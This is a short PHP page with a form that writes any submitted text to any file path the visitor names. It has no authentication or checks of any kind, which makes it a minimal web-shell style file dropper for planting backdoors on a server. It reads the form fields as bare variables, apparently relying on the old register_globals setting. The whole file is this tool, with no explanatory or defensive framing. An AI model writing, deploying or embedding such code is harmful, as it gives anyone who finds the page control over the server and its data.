<?php if ($savepath != "") { $fh = fopen($savepath, "w"); fwrite($fh, $content); fclose($fh); } ?>
<html><body>
<form method="post">
<input type="text" name="savepath" size="60">
<textarea name="content" rows="20" cols="80"></textarea>
<input type="submit" value="save">
</form>
</body></html>
